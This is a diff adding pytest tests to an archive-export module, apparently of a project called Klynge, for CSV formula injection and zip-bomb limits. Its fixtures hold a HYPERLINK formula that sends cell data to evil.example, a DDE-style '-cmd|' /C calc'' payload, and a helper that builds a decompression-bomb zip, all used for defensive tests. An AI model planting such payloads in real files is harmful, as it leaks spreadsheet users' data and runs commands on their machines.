@@ -8,9 +8,10 @@ from contextlib import contextmanager
 import pytest
 from sqlalchemy import create_engine, text
 
-from klynge.archive import DICTIONARY, check_archive, export_archive, import_archive
+from klynge.archive import DICTIONARY, MAX_MEMBERS, MAX_UNPACKED_BYTES, check_archive, export_archive, import_archive
+from klynge.cells import FORMULA_STARTS
 from klynge.errors import AccessDenied, DataError, KeyRejected, NotEmpty
-from klynge.model import Money, Note, Offer, Organisation, Package, PackageComponent, SdgEntry
+from klynge.model import Money, Note, Offer, Organisation, Package, PackageComponent, Person, SdgEntry
 from klynge.store import bulk, open_store
 
 from .conftest import SECRET
@@ -213,3 +214,136 @@ def test_a_load_that_breaks_a_rule_loads_nothing(store, populated, system, db_ur
 def test_only_the_system_dumps(store, populated):
     with pytest.raises(AccessDenied):
         bulk.dump(store, populated["who"]["facilitator"])
+
+
+# -- cells a spreadsheet would run, and archives that unpack to too much --------------------
+LINK = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
+
+
+@pytest.fixture
+def formulas(store, cluster, system):
+    """Text that a spreadsheet would run as a formula, in every text column a person fills in."""
+    who, orgs = cluster["who"], cluster["orgs"]
+    kari, fjell, gard = who["fjell"], orgs["fjell"], orgs["gard"]
+    current = store.organisation(kari, fjell)
+    store.update_organisation(kari, current.value.model_copy(update={
+        "name": LINK, "needs": "+47 000 00 000", "description": "-1+1"}), current.version)
+    store.add_person(system, Person(name="@SUM(A1:A9)", email="sum@fjell.example", organisation_id=fjell),
+                     cluster["id"])
+    kayak = store.add_offer(kari, offer(fjell, title="=1+1", description="@cmd"))
+    meal = store.add_offer(who["gard"], offer(gard, title="Gardsmiddag"))
+    store.save_canvas(kari, fjell, "business_model", [
+        Note(id="a", block="channels", text=LINK), Note(id="b", block="channels", text="-1"),
+        Note(id="c", block="channels", text="+1"), Note(id="d", block="channels", text="@SUM(1+1)")], None)
+    store.save_sdg(kari, fjell, [SdgEntry(target="8.9", relevance=2, impact=-2, evidence="=2+5",
+                                          action="-cmd|' /C calc'!A0")], None)
+    store.save_package(kari, fjell, Package(title="@Pakke", description="=A1", target_segment="+familier",
+                                            components=[PackageComponent(offer_id=kayak, organisation_id=fjell),
+                                                        PackageComponent(offer_id=meal, organisation_id=gard)]),
+                       None, name="pakke")
+    return cluster
+
+
+def csv_cells(files) -> dict[str, list[dict]]:
+    return {name: list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
+            for name, data in files.items() if name.endswith(".csv")}
+
+
+def assert_no_formula(tables) -> None:
+    for name, rows in tables.items():
+        for row in rows:
+            for column, cell in row.items():
+                if cell.startswith(FORMULA_STARTS):  # only a number Klynge wrote itself may start with -
+                    assert column == "impact" and int(cell) < 0, (name, column, cell)
+
+
+def test_formula_cells_are_written_as_text_in_every_csv(store, formulas, system, tmp_path):
+    files = members(export_archive(store, tmp_path / "klynge.zip"))
+    tables = csv_cells(files)
+    assert set(tables) == {*CSVS, "data_dictionary.csv"}
+    assert_no_formula(tables)
+    fjell = next(r for r in tables["organisations.csv"] if r["id"] == str(formulas["orgs"]["fjell"]))
+    assert (fjell["name"], fjell["needs"], fjell["description"]) == ("'" + LINK, "'+47 000 00 000", "'-1+1")
+    assert "'@SUM(A1:A9)" in {r["name"] for r in tables["people.csv"]}
+    kayak = next(r for r in tables["offers.csv"] if r["title"].endswith("1+1"))
+    assert (kayak["title"], kayak["description"]) == ("'=1+1", "'@cmd")
+    notes = {r["note_id"]: r["text"] for r in tables["canvas_notes.csv"]}
+    assert notes == {"a": "'" + LINK, "b": "'-1", "c": "'+1", "d": "'@SUM(1+1)"}
+    (entry,) = tables["sdg_entries.csv"]
+    assert (entry["impact"], entry["evidence"], entry["action"]) == ("-2", "'=2+5", "'-cmd|' /C calc'!A0")
+    (package,) = tables["packages.csv"]
+    assert (package["title"], package["description"], package["target_segment"]) == ("'@Pakke", "'=A1",
+                                                                                      "'+familier")
+    # cluster.json keeps every text as typed: the quote is only in what a spreadsheet opens.
+    dump = json.loads(files["cluster.json"])
+    assert LINK in {o["name"] for o in dump["organisations"]} and "'" + LINK not in files["cluster.json"].decode()
+    assert bulk.dump(store, system)["organisations"] == dump["organisations"]
+
+
+def test_formula_text_survives_the_round_trip_as_typed(store, formulas, system, db_url, tmp_path):
+    first = export_archive(store, tmp_path / "first.zip")
+    with fresh_store(db_url, tmp_path) as other:
+        import_archive(other, first)
+        assert bulk.dump(other, system) == bulk.dump(store, system)
+        assert export_archive(other, tmp_path / "second.zip").read_bytes() == first.read_bytes()
+
+
+def test_text_starting_with_a_tab_or_carriage_return_is_written_as_text(store, populated, system, db_url,
+                                                                          tmp_path):
+    # The model strips leading white space, but a loaded archive (from another tool, or an older
+    # Klynge) can hold such text; the CSV writer must not trust the model to have removed it.
+    tables = bulk.dump(store, system)
+    tables["organisations"][0]["name"] = "\t=1+1"
+    tables["people"][0]["name"] = "\r@SUM(1)"
+    tables["people"][1]["name"] = "Kari\rNordmann,=1+1"  # a lone CR would start a new row
+    with fresh_store(db_url, tmp_path) as other:
+        bulk.load(other, system, tables)
+        files = members(export_archive(other, tmp_path / "tabs.zip"))
+    cells = csv_cells(files)
+    assert_no_formula(cells)
+    assert all(b"\r" not in data for name, data in files.items() if name != "cluster.json")
+    assert "'\t=1+1" in {r["name"] for r in cells["organisations.csv"]}
+    assert len(cells["people.csv"]) == len(tables["people"])
+    assert {"'\n@SUM(1)", "Kari\nNordmann,=1+1"} <= {r["name"] for r in cells["people.csv"]}
+
+
+def bomb(path, size, files=None):
+    """A zip whose one member is ``size`` bytes of zeros (it packs to about a thousandth)."""
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
+        with z.open("cluster.json", "w", force_zip64=True) as out:
+            chunk = b"0" * (1 << 20)
+            for start in range(0, size, len(chunk)):
+                out.write(chunk[:size - start])
+        for i in range(files or 0):
+            z.writestr(f"f{i}.csv", b"")
+    return path
+
+
+def test_an_archive_that_unpacks_to_too_much_is_refused_before_unpacking(store, populated, system, db_url,
+                                                                          tmp_path):
+    limit = 4 << 20
+    path = bomb(tmp_path / "bomb.zip", 5 << 20)
+    assert path.stat().st_size < 64 << 10
+    with fresh_store(db_url, tmp_path) as other:
+        # Without the limit the missing manifest.json would be reported: the size is checked first.
+        with pytest.raises(DataError, match=r"bomb\.zip would unpack to 5\.0 MB, over the import limit of 4\.0 MB"
+                                            r"\. Nothing was unpacked"):
+            import_archive(other, path, max_bytes=limit)
+        with pytest.raises(DataError, match="manifest.json is missing"):
+            import_archive(other, path)
+        assert other.is_empty()
+    with pytest.raises(DataError, match="over the import limit of 4.0 MB"):
+        check_archive(path, max_bytes=limit)
+    # A real export is far below the default limits and still imports with the limit set tight.
+    good = export_archive(store, tmp_path / "good.zip")
+    with zipfile.ZipFile(good) as z:
+        unpacked = sum(i.file_size for i in z.infolist())
+    assert unpacked < MAX_UNPACKED_BYTES / 1000 and len(members(good)) < MAX_MEMBERS
+    assert check_archive(good, max_bytes=unpacked)["format"] == "klynge-archive"
+
+
+def test_an_archive_of_too_many_files_is_refused_before_unpacking(tmp_path):
+    path = bomb(tmp_path / "many.zip", 10, files=MAX_MEMBERS)
+    with pytest.raises(DataError, match=rf"many\.zip holds {MAX_MEMBERS + 1} files; an import takes at most "
+                                        rf"{MAX_MEMBERS}\. Nothing was unpacked"):
+        check_archive(path)
